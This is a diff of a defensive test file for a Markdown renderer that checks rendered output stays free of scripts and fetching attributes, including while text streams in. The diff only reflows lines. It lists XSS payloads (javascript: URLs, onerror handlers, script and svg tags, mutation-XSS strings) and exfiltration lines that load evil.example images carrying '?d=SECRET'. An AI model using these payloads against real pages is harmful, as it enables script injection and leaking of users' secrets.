@@ -7,9 +7,24 @@ const render = (text: string) => renderToStaticMarkup(<Markdown text={text} />);
 const documentOf = (html: string) => parseHTML(`<!doctype html><html><body>${html}</body></html>`).document;
 
 const addresses = [
-  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java\\nscript:alert(1)', '&#106;avascript:alert(1)', 'javascript&colon;alert(1)',
-  '\u0001javascript:alert(1)', '  javascript:alert(1)', 'vbscript:msgbox(1)', 'data:text/html;base64,PHNjcmlwdD4=', 'blob:x',
-  'file:///etc/passwd', '//evil.example/x', '/api/logout', 'about:blank', 'intent://x', 'tel:112', 'steam://run/1', 'view-source:https://evil.example',
+  'javascript:alert(1)',
+  'JaVaScRiPt:alert(1)',
+  'java\\nscript:alert(1)',
+  '&#106;avascript:alert(1)',
+  'javascript&colon;alert(1)',
+  '\u0001javascript:alert(1)',
+  '  javascript:alert(1)',
+  'vbscript:msgbox(1)',
+  'data:text/html;base64,PHNjcmlwdD4=',
+  'blob:x',
+  'file:///etc/passwd',
+  '//evil.example/x',
+  '/api/logout',
+  'about:blank',
+  'intent://x',
+  'tel:112',
+  'steam://run/1',
+  'view-source:https://evil.example',
 ];
 
 const payloads = [
@@ -17,27 +32,75 @@ const payloads = [
   ...addresses.map((address) => `[a][r]\n\n[r]: ${address}`),
   ...addresses.map((address) => `![a](${address})`),
   '<javascript:alert(1)>',
-  '![x](https://evil.example/p.png?d=SECRET)', '![x][r]\n\n[r]: https://evil.example/p.png?d=SECRET',
-  '[![x](https://evil.example/p.png)](https://evil.example)', '[^1]\n\n[^1]: ![x](https://evil.example/f?SECRET)',
-  '| ![x](https://evil.example/t?SECRET) |\n|---|\n| b |', '- [ ] ![x](https://evil.example/l)',
-  '<img src=x onerror=alert(1)>', '<IMG SRC="https://evil.example/p">', '<script>alert(1)</script>', '<scr<script>ipt>alert(1)</script>',
-  '<svg onload=alert(1)>', '<svg><image href="https://evil.example/x"/></svg>', '<iframe src=javascript:alert(1)>',
-  '<a href="javascript:alert(1)">x</a>', '<a href="https://evil.example" ping="https://evil.example/ping">x</a>',
+  '![x](https://evil.example/p.png?d=SECRET)',
+  '![x][r]\n\n[r]: https://evil.example/p.png?d=SECRET',
+  '[![x](https://evil.example/p.png)](https://evil.example)',
+  '[^1]\n\n[^1]: ![x](https://evil.example/f?SECRET)',
+  '| ![x](https://evil.example/t?SECRET) |\n|---|\n| b |',
+  '- [ ] ![x](https://evil.example/l)',
+  '<img src=x onerror=alert(1)>',
+  '<IMG SRC="https://evil.example/p">',
+  '<script>alert(1)</script>',
+  '<scr<script>ipt>alert(1)</script>',
+  '<svg onload=alert(1)>',
+  '<svg><image href="https://evil.example/x"/></svg>',
+  '<iframe src=javascript:alert(1)>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="https://evil.example" ping="https://evil.example/ping">x</a>',
   '<math><mtext></table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
-  '<details open ontoggle=alert(1)>', '<form action=javascript:alert(1)><button>x</button></form>',
-  '<style>@import "https://evil.example/"</style>', '<link rel=stylesheet href=https://evil.example>', '<base href=https://evil.example>',
-  '<meta http-equiv=refresh content="0;url=https://evil.example">', '<video poster="https://evil.example/p?SECRET">',
-  '<input type=image src=https://evil.example/p?SECRET>', '<p style="background:url(https://evil.example/?SECRET)">x</p>',
-  '<object data="https://evil.example"></object>', '<embed src="https://evil.example">', '<audio src="https://evil.example">',
-  '```html\n<script>alert(1)</script>\n```', '`<img src=x onerror=alert(1)>`', '[a](http://evil.example" onmouseover="alert(1))',
-  '[a](<https://evil.example" onclick="alert(1)>)', '[a](https://evil.example "x\\" onclick=\\"alert(1)")',
-  'https://evil.example/?d=SECRET', '<https://evil.example/?d=SECRET>', 'www.evil.example/?d=SECRET',
-  '# <img src=x onerror=alert(1)>', '<!-- --><img src=x onerror=alert(1)>', '<![CDATA[<img src=x onerror=alert(1)>]]>',
+  '<details open ontoggle=alert(1)>',
+  '<form action=javascript:alert(1)><button>x</button></form>',
+  '<style>@import "https://evil.example/"</style>',
+  '<link rel=stylesheet href=https://evil.example>',
+  '<base href=https://evil.example>',
+  '<meta http-equiv=refresh content="0;url=https://evil.example">',
+  '<video poster="https://evil.example/p?SECRET">',
+  '<input type=image src=https://evil.example/p?SECRET>',
+  '<p style="background:url(https://evil.example/?SECRET)">x</p>',
+  '<object data="https://evil.example"></object>',
+  '<embed src="https://evil.example">',
+  '<audio src="https://evil.example">',
+  '```html\n<script>alert(1)</script>\n```',
+  '`<img src=x onerror=alert(1)>`',
+  '[a](http://evil.example" onmouseover="alert(1))',
+  '[a](<https://evil.example" onclick="alert(1)>)',
+  '[a](https://evil.example "x\\" onclick=\\"alert(1)")',
+  'https://evil.example/?d=SECRET',
+  '<https://evil.example/?d=SECRET>',
+  'www.evil.example/?d=SECRET',
+  '# <img src=x onerror=alert(1)>',
+  '<!-- --><img src=x onerror=alert(1)>',
+  '<![CDATA[<img src=x onerror=alert(1)>]]>',
 ];
 
 const ALLOWED = new Set([
-  'div', 'p', 'span', 'a', 'strong', 'em', 'del', 'ul', 'ol', 'li', 'code', 'pre', 'h3', 'h4', 'h5', 'h6', 'blockquote', 'br', 'hr',
-  'table', 'thead', 'tbody', 'tr', 'th', 'td', 'sup', 'section',
+  'div',
+  'p',
+  'span',
+  'a',
+  'strong',
+  'em',
+  'del',
+  'ul',
+  'ol',
+  'li',
+  'code',
+  'pre',
+  'h3',
+  'h4',
+  'h5',
+  'h6',
+  'blockquote',
+  'br',
+  'hr',
+  'table',
+  'thead',
+  'tbody',
+  'tr',
+  'th',
+  'td',
+  'sup',
+  'section',
 ]);
 
 describe.each(payloads)('%j', (payload) => {
@@ -48,7 +111,9 @@ describe.each(payloads)('%j', (payload) => {
   });
 
   it('has no attribute that runs, fetches or submits', () => {
-    const found = elements.flatMap((e) => [...e.attributes].map((a) => a.name)).filter((name) => /^on|^(src|srcset|poster|action|formaction|ping|background|data|xlink:href)$/.test(name));
+    const found = elements
+      .flatMap((e) => [...e.attributes].map((a) => a.name))
+      .filter((name) => /^on|^(src|srcset|poster|action|formaction|ping|background|data|xlink:href)$/.test(name));
     expect(found).toEqual([]);
   });
 
@@ -64,7 +129,9 @@ describe.each(payloads)('%j', (payload) => {
 it('is as harmless at every length while an answer streams in', () => {
   for (const payload of payloads) {
     for (let length = 1; length < payload.length; length += 1) {
-      const names = [...documentOf(render(payload.slice(0, length))).body.querySelectorAll('*')].map((e) => e.localName);
+      const names = [...documentOf(render(payload.slice(0, length))).body.querySelectorAll('*')].map(
+        (e) => e.localName,
+      );
       expect(names.filter((name) => !ALLOWED.has(name))).toEqual([]);
     }
   }
